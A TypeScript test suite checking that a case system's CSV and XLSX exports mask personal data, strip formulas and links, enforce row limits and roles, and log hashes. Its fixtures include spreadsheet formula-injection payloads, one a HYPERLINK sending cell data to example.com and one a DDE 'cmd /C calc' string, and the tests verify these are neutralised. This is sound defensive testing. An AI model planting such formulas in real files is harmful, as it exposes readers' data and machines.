/** Exports, read from their bytes: masked, free of formulas, whole or refused, and in the trail. */
import { createHash } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { unzip } from '../harness/unzip.ts';
import { startCase } from './world/cases.ts';
import { world } from './world/index.ts';

const place = world({ limits: { exportRowsMax: 60 } });
const clerk = () => place.as('lin-guiyuan');
const auditor = () => place.as('li-shenji');

/** Names as an attacker, or an old system, may have left them. */
const EVIL = {
  staff: `=HYPERLINK("http://example.com/?"&A1,"点我")`,
  branch: `@SUM(1+1)*cmd|' /C calc'!A0`,
  person: '=王',
};

beforeAll(async () => {
  await place.owner.query(`update staff set name = $1 where id = 'lin-guiyuan'`, [EVIL.staff]);
  await place.owner.query(`update branch set name = $1 where id = 'sy-hall'`, [EVIL.branch]);
});

async function file(path: string, body: object): Promise<Buffer> {
  const answer = await fetch(`${place.base}/api/v1${path}`, {
    method: 'POST',
    headers: {
      authorization: place.authorization('li-shenji'),
      'content-type': 'application/json',
    },
    body: JSON.stringify(body),
  });
  expect(answer.status).toBe(200);
  expect(answer.headers.get('content-disposition')).toMatch(/^attachment; .*filename\*=UTF-8''/);
  return Buffer.from(await answer.arrayBuffer());
}

const csv = (bytes: Buffer) => parse<Record<string, string>>(bytes, { bom: true, columns: true });

const XML: Readonly<Record<string, string>> = { '&lt;': '<', '&gt;': '>', '&amp;': '&' };

/** The texts of a workbook, and the XML of its sheets. */
function workbook(bytes: Buffer) {
  const files = unzip(bytes);
  const sheets = [...files].filter(([name]) => name.startsWith('xl/worksheets/sheet'));
  const shared = [...files].find(([name]) => name.endsWith('sharedStrings.xml'))?.[1] ?? '';
  const texts = [...shared.matchAll(/<t[^>]*>([^<]*)<\/t>/g)].map(([, text = '']) =>
    text.replaceAll(/&(?:lt|gt|amp);/g, (sign) => XML[sign] ?? sign),
  );
  return { files, sheets: sheets.map(([, xml]) => xml), texts };
}

describe('an export of cases', () => {
  it('as CSV begins with the mark of UTF-8 and holds no formula and no personal data in full', async () => {
    const { told } = await startCase(clerk(), { name: EVIL.person });
    const bytes = await file('/cases:export', { format: 'csv', open: 'true' });
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const row = csv(bytes).find((one) => one['受理编号'] === told.string('number'))!;
    expect(row).toMatchObject({
      业务: '开户',
      环节: '待补正',
      '申请人（已遮盖）': `'=＊`,
      受理网点: `'${EVIL.branch}`,
      业务标识: told.string('id'),
      超期: '否',
    });
    expect(row['证件号码（已遮盖）']).toMatch(/^\d{3}\*+\d{3}[\dX]$/);
    for (const cell of csv(bytes).flatMap((one) => Object.values(one))) {
      expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
    }
  });

  it('as XLSX holds texts only: no formula, no link, no number that loses its digits', async () => {
    await startCase(clerk(), { name: EVIL.person });
    const bytes = await file('/cases:export', { format: 'xlsx' });
    const { files, sheets, texts } = workbook(bytes);
    expect(sheets).toHaveLength(2);
    for (const xml of sheets) {
      expect(xml).not.toMatch(/<f[ >]|hyperlink/i);
      const types = [...xml.matchAll(/<c [^>]*>/g)].map(([cell]) => / t="s"/.test(cell));
      expect(types.length).toBeGreaterThan(5);
      expect(types.every(Boolean)).toBe(true);
    }
    expect([...files.keys()].filter((name) => /external|vba|connection/i.test(name))).toEqual([]);
    expect(texts).toContain(`'${EVIL.branch}`);
    expect(texts.filter((text) => /^[=+\-@\t\r＝＋－＠]/.test(text))).toEqual([]);
    expect(texts).toContain('导出人');
    expect(texts.join()).not.toMatch(/(?<!\d)219900\d{11}[\dX]/);
  });

  it('is refused, not cut off, when there are more rows than may be exported', async () => {
    const told = () => auditor().post('/cases:export', { body: { format: 'csv' }, key: null });
    const count = (await auditor().get('/cases?count=true')).number('count');
    for (let n = count; n < 60; n += 1) await startCase(clerk());
    expect((await told()).status).toBe(200);
    await startCase(clerk());
    expect((await told()).body).toMatchObject({
      code: 'too-large',
      detail: expect.stringContaining('60行') as string,
    });
    const fewer = await file('/cases:export', { format: 'csv', stage: 'opened' });
    expect(csv(fewer)).toEqual([]);
  });

  it('is for supervisors and auditors, and shows each what he or she may see', async () => {
    const body = { format: 'csv', stage: 'opened' };
    expect((await clerk().post('/cases:export', { body, key: null })).status).toBe(403);
    expect((await place.as('wu-yunwei').post('/cases:export', { body, key: null })).status).toBe(
      403,
    );
    const other = await fetch(`${place.base}/api/v1/cases:export`, {
      method: 'POST',
      headers: {
        authorization: place.authorization('dl-zhuguan'),
        'content-type': 'application/json',
      },
      body: JSON.stringify({ format: 'csv' }),
    });
    expect(csv(Buffer.from(await other.arrayBuffer()))).toEqual([]);
  });

  it('takes no number of somebody into its filter, which the trail keeps', async () => {
    const told = await auditor().post('/cases:export', {
      body: { format: 'csv', submittedBy: '219900199001010014' },
      key: null,
    });
    expect(told.body).toMatchObject({ errors: [{ pointer: '#/submittedBy' }] });
  });
});

describe('an export of the trail', () => {
  it('holds the lines of the search, and is itself a line with filter, count and hash', async () => {
    const { id, told } = await startCase(clerk());
    const bytes = await file('/audit/events:export', {
      format: 'csv',
      case: id,
      kinds: ['case-received'],
    });
    const rows = csv(bytes);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      事项: '收件',
      人员: 'lin-guiyuan',
      姓名: `'${EVIL.staff}`,
      岗位: '柜员',
      业务编号: told.string('number'),
    });
    const lines = await auditor().get('/audit/events?kind=list-exported&limit=1');
    expect(lines.at('items.0.public')).toEqual({
      list: 'audit',
      format: 'csv',
      filter: { case: id, kinds: ['case-received'] },
      count: 1,
      sha256: createHash('sha256').update(bytes).digest('hex'),
    });
    expect(lines.at('items.0.sentence')).toBe('导出了留痕清单（1行），CSV文件。');
  });

  it('masks what stands before and after a change', async () => {
    const { id } = await startCase(clerk());
    const { rows } = await place.owner.query<{ person: string }>(
      'select person from "case" where id = $1',
      [id],
    );
    const reason = '=2+5 电话核对';
    await clerk().post(`/persons/${rows[0]!.person}:reveal`, { body: { reason }, key: null });
    const { texts } = workbook(
      await file('/audit/events:export', { format: 'xlsx', person: rows[0]!.person }),
    );
    expect(texts).toContain(JSON.stringify({ reason }));
    expect(texts.join()).not.toMatch(/(?<!\d)219900\d{11}[\dX]|13900001111/);
  });
});
